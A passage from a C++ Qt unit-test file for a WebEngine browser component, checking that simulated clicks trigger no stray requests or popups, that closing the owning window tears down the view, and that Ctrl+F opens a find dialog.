        QVERIFY(TestEnv::waitUntil([&] { return m_events->count("before ") == 2; }, loadTimeoutMs));
        auto *view = qobject_cast<QWebEngineView *>(m_browser->widget());
        QWidget *surface = view->focusProxy() ? view->focusProxy() : view;
        QTest::mouseMove(surface, QPoint(100, 100));
        QTest::mouseMove(surface, QPoint(150, 120));
        evaluate("document.getElementById('away').click()");
        evaluate("document.getElementById('blank').click()");
        // Once the server has answered an ordinary page, stray requests would have come.
        m_browser->stop();
        QVERIFY(m_events->waitForDocuments(2));
        QVERIFY(load(http("/untitled")));
        QCOMPARE(hostileRequests(), QStringList());
        QVERIFY(!m_requests.contains("/moved"));
        QVERIFY(m_browser->popups().isEmpty());
        QCOMPARE(m_browser->documentUrl(), http("/untitled"));
    }

    void windowThatOwnsTheBrowserTearsItDown()
    {
        // As in the program: the window holds the view in its layout and owns the browser,
        // and its widgets go before the browser does.
        auto window = std::make_unique<QWidget>();
        auto *layout = new QVBoxLayout(window.get());
        auto *browser = new WebEngineBrowser;
        layout->addWidget(browser->widget());
        browser->setParent(window.get());
        QPointer<QWidget> view = browser->widget();
        window->show();
        Recorder events(browser);
        browser->navigate(http("/popup"));
        QVERIFY(events.waitForDocuments(1));
        browser->page()->runJavaScript("document.getElementById('p').click()");
        QVERIFY(TestEnv::waitUntil([&] { return browser->popups().size() == 1; }, loadTimeoutMs));
        QPointer<QWebEngineView> popup = browser->popups().first();
        browser->navigate(http("/titled")); // still loading when the window goes
        window.reset();
        QVERIFY(view.isNull());
        QVERIFY(popup.isNull());
    }

    void takeFocusAndFindDialog()
    {
        QVERIFY(load(http("/titled")));
        QWidget *view = m_browser->widget();
        view->activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(view));
        m_browser->takeFocus();
        QVERIFY(TestEnv::waitUntil(
            [&] {
                QWidget *focus = QApplication::focusWidget();
                return focus && (focus == view || view->isAncestorOf(focus));
            },
            loadTimeoutMs));

        // Ctrl+F, as the Find command puts it into the keyboard input, opens the find dialog.
        QCoreApplication::postEvent(QApplication::focusWidget(),
                                    new QKeyEvent(QEvent::KeyPress, Qt::Key_F, Qt::ControlModifier));
        QVERIFY(TestEnv::waitUntil([&] { return m_browser->findDialog() && m_browser->findDialog()->isVisible(); },
                                loadTimeoutMs));
        m_browser->findDialog()->close();
    }
};

int main(int argc, char **argv)
{
    TestEnv::prepareWebEngine();
    QApplication app(argc, argv);
    TestWebEngineBrowser test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_webenginebrowser.moc"
